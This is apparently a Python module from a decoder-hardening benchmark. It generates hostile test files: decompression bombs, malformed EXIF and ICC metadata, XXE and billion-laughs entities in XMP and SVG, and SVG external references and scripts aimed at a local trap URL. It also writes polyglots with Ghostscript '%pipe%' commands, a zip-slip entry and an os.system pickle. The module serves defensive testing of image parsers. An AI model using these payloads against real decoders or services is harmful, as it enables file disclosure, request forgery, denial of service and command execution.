"""Attacks on decoders that people have published, as files: each kind is a function of a generator and of traps."""

import functools
import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from benchmarks.hostile_files import DOT, SVG, chunk, pictures, png


@dataclass(frozen=True)
class Traps:
    """Where references lead that nobody may follow.

    Args:
        secret: A file outside the corpus, whose content is its own proof.
        url: http://127.0.0.1:PORT, where requests are counted.
    """

    secret: Path
    url: str


Files = list[tuple[str, bytes]]


@functools.cache
def zeros(mebibytes: int) -> bytes:
    """Return so many MiB of zeros, deflated: a thousandth of them."""
    return zlib.compress(bytes(mebibytes << 20), 9)


@functools.cache
def _gzipped_drawing() -> bytes:
    return gzip.compress(f"{SVG}><desc>{' ' * (70 << 20)}</desc></svg>".encode(), 9, mtime=0)


@functools.cache
def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.png", bytes(60 << 20))
    return packed.getvalue()


def bombs(rng: random.Random, traps: Traps) -> Files:
    """Small files that become large: pixels, text chunks, profiles, gzip, ZIP, frames."""
    much = zeros(rng.choice((40, 80)))
    pixels = zeros(144)  # 30,000 rows of 40,000 one-bit pixels take 143 MiB
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\2\2\x4c\1\0"
    large = png(40_000, 30_000, DOT)
    strip = zeros(100)
    tags = [
        (256, 4, 1, 20_000), (257, 4, 1, 5_000), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (273, 4, 1, 122),
        (277, 3, 1, 1), (278, 4, 1, 5_000), (279, 4, 1, len(strip)),
    ]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    tiff = b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + bytes(4)
    return [
        ("pixels.png", png(40_000, 30_000, pixels, depth=1)),
        ("text.png", png(1, 1, DOT, chunk(b"zTXt", b"a\0\0" + much))),
        ("itxt.png", png(1, 1, DOT, chunk(b"iTXt", b"a\0\1\0\0\0" + much))),
        ("profile.png", png(1, 1, DOT, chunk(b"iCCP", b"a\0\0" + much))),
        ("drawing.svgz", _gzipped_drawing()),
        ("zip.png", _zip()),
        ("zip.zip", _zip()),
        ("frames.gif", b"GIF89a" + struct.pack("<HH", 1, 1) + b"\x80\0\0" + bytes(6) + frame * 60_000 + b";"),
        ("screen.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\x80\0\0" + bytes(6) + frame * 3 + b";"),
        ("frames.png", png(1, 1, DOT, chunk(b"acTL", struct.pack(">II", 0xFFFFFFF, 0)))),
        ("strip.tiff", tiff.ljust(122, b"\0") + strip),
        ("icon.ico", b"\0\0\1\0\1\0" + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(large), 22) + large),
    ]  # fmt: skip


def metadata(rng: random.Random, traps: Traps) -> Files:
    """EXIF that loops or counts wrong, XMP with entities, profiles of nonsense, segments without end."""
    base = pictures(rng)
    jpeg, webp = base["jpg"], base.get("webp", b"RIFF\0\0\0\0WEBP")
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{traps.secret}"><!ENTITY r SYSTEM "{traps.url}/xmp">]>'
    laughs = "".join(f'<!ENTITY {a} "{f"&{b};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    xmp = f"<?xpacket?>{entity}<x:xmpmeta xmlns:x='adobe:ns:meta/'>&e;&r;</x:xmpmeta>".encode()
    bombed = f"<!DOCTYPE x [<!ENTITY i 'lol'>{laughs}]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&a;</x:xmpmeta>".encode()

    def exif(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
        body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
        return b"Exif\0\0II*\0\x08\0\0\0" + body + struct.pack("<I", following)

    def app(marker: int, body: bytes) -> bytes:
        return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body

    def inside(*parts: bytes) -> bytes:
        return jpeg[:2] + b"".join(parts) + jpeg[2:]

    pages = [struct.pack("<HHHIII", 1, 256, 4, 1, 9, 8 + 18 * n) for n in range(1, 30_000)]
    icc = struct.pack(">I", 0xFFFFFFFF) + rng.randbytes(400)
    riff = (
        b"VP8X\x0a\0\0\0\x2c\0\0\0\x5f\0\0\x47\0\0" + webp[12:] + b"XMP " + struct.pack("<I", len(xmp)) + xmp
    )
    return [
        ("exif-loop.jpg", inside(app(0xE1, exif((0x8769, 4, 1, 8), (0x8825, 4, 1, 8), following=8)))),
        ("exif-count.jpg", inside(app(0xE1, exif((0x0112, 3, 0xFFFFFFFF, 1), (0x010F, 2, 0x7FFFFFFF, 4))))),
        ("exif-turn.jpg", inside(app(0xE1, exif((0x0112, 3, 1, rng.choice((0, 9, 65_535))))))),
        ("exif-outside.jpg", inside(app(0xE1, exif((0x0201, 4, 1, 0xFFFFFFF0), (0x0202, 4, 1, 0xFFFFFFF0))))),
        ("exif-many.jpg", inside(app(0xE1, exif(*[(0x0112, 3, 1, 6)] * 5000)))),
        ("xmp-entity.jpg", inside(app(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp))),
        ("xmp-laughs.jpg", inside(app(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + bombed))),
        ("xmp.png", png(1, 1, DOT, chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xmp))),
        ("xmp.webp", b"RIFF" + struct.pack("<I", len(riff) + 4) + b"WEBP" + riff),
        ("icc.jpg", inside(app(0xE2, b"ICC_PROFILE\0\1\1" + icc))),
        ("icc-parts.jpg", inside(*[app(0xE2, b"ICC_PROFILE\0" + bytes([n, 255]) + icc) for n in range(255)])),
        ("icc.png", png(1, 1, DOT, chunk(b"iCCP", b"icc\0\0" + zlib.compress(icc)))),
        ("icc-broken.png", png(1, 1, DOT, chunk(b"iCCP", b"icc\0\0" + rng.randbytes(90)))),
        ("exif.png", png(1, 1, DOT, chunk(b"eXIf", exif((0x8769, 4, 1, 8), following=8)[6:]))),
        ("comments.jpg", inside(*[app(0xFE, b"a" * 9000)] * 900)),
        ("iptc.jpg", inside(app(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\xff\xff\xff\xff" + rng.randbytes(60)))),
        ("loop.tiff", b"II*\0\x08\0\0\0\1\0" + struct.pack("<HHII", 256, 4, 1, 9) + struct.pack("<I", 8)),
        ("pages.tiff", b"II*\0\x08\0\0\0" + b"".join(pages)),
    ]  # fmt: skip


def drawings(rng: random.Random, traps: Traps) -> Files:
    """References out of a drawing, entities, scripts, and shapes that nobody finishes drawing."""
    secret, url = f"file://{traps.secret}", traps.url
    laughs = "".join(f'<!ENTITY {a} "{f"&{b};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    tens = (f'<use href="#u{n}"/>' * 10 for n in range(rng.choice((5, 11))))
    uses = "".join(f'<g id="u{n}">{ten}</g>' for n, ten in enumerate(tens, 1))
    filled, masked, filtered = (
        f'<rect width="9" height="9" {what}/>'
        for what in ('fill="url(#p)"', 'mask="url(#m)"', 'filter="url(#f)"')
    )
    bodies = {
        "entity-file": (f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{secret}">]>', "<text>&x;</text>"),
        "entity-web": (f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{url}/e">]>', "<text>&x;</text>"),
        "parameter": (f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{url}/p">%x;]>', ""),
        "doctype": (f'<!DOCTYPE svg SYSTEM "{url}/dtd">', ""),
        "laughs": (f'<!DOCTYPE svg [<!ENTITY i "lol">{laughs}]>', "<text>&a;</text>"),
        "blow-up": (f'<!DOCTYPE svg [<!ENTITY x "{"x" * 60_000}">]>', f"<text>{'&x;' * 4000}</text>"),
        "image-file": ("", f'<image xlink:href="{secret}" width="9" height="9"/>'),
        "image-web": ("", f'<image href="{url}/i.png" width="9" height="9"/>'),
        "image-climbs": ("", f'<image href="../../{traps.secret.name}" width="9" height="9"/>'),
        "use-web": ("", f'<use href="{url}/u.svg#a"/>'),
        "style-import": ("", f'<style>@import url("{url}/s.css");</style>'),
        "style-url": ("", f"<rect width='9' height='9' style=\"fill:url( {url}/f#a )\"/>"),
        "style-escape": ("", f"<style>rect{{fill:u\\72l({url}/esc)}}</style><rect width='9' height='9'/>"),
        "font": ("", f"<style>@font-face{{font-family:a;src:url({url}/a.woff)}}</style><text font-family='a'>a</text>"),
        "stylesheet": (f'<?xml-stylesheet href="{url}/x.css"?>', ""),
        "script": ("", f'<script>fetch("{url}/js")</script><rect onload="fetch(\'{url}/on\')" width="9" height="9"/>'),
        "script-web": ("", f'<script xlink:href="{url}/a.js"/>'),
        "foreign": ("", f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}/frame"/></foreignObject>'),
        "filter-image": ("", f'<filter id="f"><feImage href="{url}/fe"/></filter>{filtered}'),
        "nested": ("", '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
        "base": ('<?xml version="1.0"?>', f'<g xml:base="{url}/"><image href="#a"/></g>'),
        "include": ("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'),
        "uses": ("", f'<rect id="u0" width="9" height="9"/>{uses}'),
        "use-itself": ("", '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
        "mask-itself": ("", f'<mask id="m">{masked}</mask>{masked}'),
        "pattern-itself": ("", f'<pattern id="p" width="1" height="1">{filled}</pattern>{filled}'),
        "dashes": ("", '<path d="M0 0H9999999" stroke="#000" stroke-dasharray="0.00001"/>'),
        "blur": ("", f'<filter id="f" x="-9999" width="99999"><feGaussianBlur stdDeviation="99999"/></filter>{filtered}'),
        "morphology": ("", '<filter id="f"><feMorphology radius="99999"/></filter>' + filtered),
        "deep": ("", "<g>" * 60_000 + "</g>" * 60_000),
        "wide": ("", '<rect width="9" height="9"/>' * 40_000),
        "attributes": ("", "<g " + " ".join(f'a{n}="1"' for n in range(40_000)) + "/>"),
        "path": ("", f'<path d="M0 0{"L9 9L0 9" * 60_000}"/>'),
        "transform": ("", '<rect width="9" height="9" transform="scale(1e38) rotate(1e38)"/>'),
        "text": ("", f"<text>{'‮' * 9000}\ufeff</text>"),
    }  # fmt: skip
    files = [
        (f"{name}.svg", f"{before}{SVG}>{body}</svg>".encode()) for name, (before, body) in bodies.items()
    ]
    digits = f'<svg xmlns="http://www.w3.org/2000/svg" width="{"0" * 60_000}!" height="9"/>'.encode()
    sizes = f'<svg xmlns="http://www.w3.org/2000/svg" width="{"9" * 400}" height="1e99"/>'.encode()
    utf16 = f'<?xml version="1.0" encoding="UTF-16"?>{SVG}><image href="{url}/u16"/></svg>'.encode("utf-16")
    utf7 = (
        f'<?xml version="1.0" encoding="UTF-7"?>{SVG}>+ADw-image href=+ACI-{url}/u7+ACI-/+AD4-</svg>'.encode()
    )
    return [*files, ("digits.svg", digits), ("sizes.svg", sizes), ("utf16.svg", utf16), ("utf7.svg", utf7)]


def endless(rng: random.Random, traps: Traps) -> Files:
    """A drawing that no machine finishes: it must be given up at the time limit, and nothing else with it."""
    noise = '<filter id="a"><feTurbulence baseFrequency="0.05" numOctaves="1000000000"/></filter>'
    drawing = f'{SVG}>{noise}<rect width="{rng.randint(20, 40)}" height="20" filter="url(#a)"/></svg>'
    return [("endless.svg", drawing.encode())]


def polyglots(rng: random.Random, traps: Traps) -> Files:
    """Files that are two things at once."""
    base = pictures(rng)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../climbs.txt", b"a")
    script = f"<script>fetch('{traps.url}/poly')</script>".encode()
    drawing = f'{SVG}><image href="{traps.url}/poly.png"/></svg>'.encode()
    remark = b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script
    pdf = (
        b"%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI("
        + traps.url.encode()
        + b")>>>>endobj\ntrailer<</Root 1 0 R>>\n"
    )
    return [
        ("png-zip.png", base["png"] + packed.getvalue()),
        ("jpg-html.jpg", base["jpg"][:2] + remark + base["jpg"][2:]),
        ("gif-js.gif", base["gif"].replace(b"GIF89a", b"GIF89a", 1) + b"/*" + script + b"*/"),
        ("gif-svg.svg", base["gif"] + drawing),
        ("svg-png.png", drawing + base["png"]),
        ("pdf-jpg.jpg", pdf + base["jpg"]),
        ("jpg-pdf.pdf", base["jpg"] + pdf),
        ("html.png", b"<!DOCTYPE html><html>" + script),
        ("ps.png", b"%!PS\n(%pipe%true) (w) file\n"),
        ("ps.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\n"),
        ("mvg.png", f"push graphic-context\nimage over 0,0 9,9 '{traps.url}/mvg'\n".encode()),
        ("exe.jpg", b"MZ" + rng.randbytes(400)),
        ("elf.png", b"\x7fELF" + rng.randbytes(400)),
        ("playlist.jpg", f"#EXTM3U\n#EXTINF:1,\n{traps.url}/hls\n".encode()),
        ("pickle.png", b"\x80\x04cos\nsystem\n(S'true'\ntR."),
        ("zero-tail.png", base["png"] + bytes(100_000)),
        ("wav.jpg", b"RIFF\x24\0\0\0WAVEfmt " + rng.randbytes(60)),
    ]


def misnamed(rng: random.Random, traps: Traps) -> Files:
    """Whole pictures under other formats' names."""
    base = list(pictures(rng).items())
    return [
        (f"as.{rng.choice(base)[0].rpartition('.')[2]}", data)
        for _, data in rng.sample(base, min(8, len(base)))
    ]


KINDS: dict[str, Callable[[random.Random, Traps], Files]] = {
    "bombs": bombs,
    "metadata": metadata,
    "drawings": drawings,
    "endless drawing": endless,
    "polyglots": polyglots,
    "wrong name": misnamed,
}
